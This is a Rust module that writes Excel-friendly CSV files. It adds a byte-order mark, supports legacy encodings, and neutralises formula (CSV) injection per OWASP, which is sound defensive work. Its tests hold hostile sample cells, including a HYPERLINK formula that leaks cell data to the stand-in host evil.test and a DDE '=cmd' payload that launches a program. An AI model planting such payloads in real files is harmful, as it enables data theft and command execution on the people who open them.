//! CSV downloads that open correctly in Excel: UTF-8 with a byte-order mark (without it Excel
//! guesses a legacy code page and garbles Hangul and Cyrillic), and no cell that a spreadsheet
//! would run as a formula.
use super::{BackendError, Result};

pub fn with_bom(header: Vec<String>, rows: impl IntoIterator<Item = Vec<String>>) -> Result<Vec<u8>> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    out.extend(text(b',', header, rows)?.into_bytes());
    Ok(out)
}

/// The CSV text of `rows` under `header`, cells made inert, for files another system loads in
/// its own encoding (see `encode`).
pub fn text(delimiter: u8, header: Vec<String>, rows: impl IntoIterator<Item = Vec<String>>) -> Result<String> {
    let mut out = Vec::new();
    {
        let mut w = csv::WriterBuilder::new().delimiter(delimiter).from_writer(&mut out);
        let fail = |e: csv::Error| BackendError::Internal(format!("csv: {e}"));
        for row in std::iter::once(header).chain(rows) {
            let cells: Vec<_> = row.iter().map(|c| inert(c)).collect();
            w.write_record(cells.iter().map(|c| c.as_bytes())).map_err(fail)?;
        }
        w.flush().map_err(|e| BackendError::Internal(format!("csv: {e}")))?;
    }
    String::from_utf8(out).map_err(|e| BackendError::Internal(format!("csv: {e}")))
}

/// Text in a legacy encoding (CP1251, EUC-KR) for systems that read nothing else; a character
/// the encoding lacks becomes `?` (encoding_rs would write an HTML entity).
pub fn encode(text: &str, encoding: &'static encoding_rs::Encoding) -> Vec<u8> {
    let replaced: String = text.chars().map(|c| if encoding.encode(c.encode_utf8(&mut [0; 4])).2 { '?' } else { c }).collect();
    encoding.encode(&replaced).0.into_owned()
}

/// OWASP's rule against CSV injection: a cell starting with `=`, `+`, `-`, `@`, tab or carriage
/// return is prefixed with `'`, which spreadsheets take as "this is text". Plain numbers
/// (`-2.5`) are left alone: they cannot be formulas and must stay numbers.
fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text() {
        for hostile in
            ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@sum(1+1)", "\t=1", "\r=1"]
        {
            assert_eq!(inert(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for safe in ["Kim", "김민준", "-2.5", "+3", "12", "a=b", "2026-12-01"] {
            assert_eq!(inert(safe), safe, "{safe:?}");
        }
        assert_eq!(inert("-"), "'-");
        assert_eq!(inert("-1."), "'-1.");
    }

    #[test]
    fn every_cell_of_a_file_is_neutralised() {
        let bytes = with_bom(vec!["=name".into()], vec![vec!["@x".into()], vec!["-7".into()]]).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes);
        assert_eq!(text.trim_start_matches('\u{feff}'), "'=name\n'@x\n-7\n");
    }
}
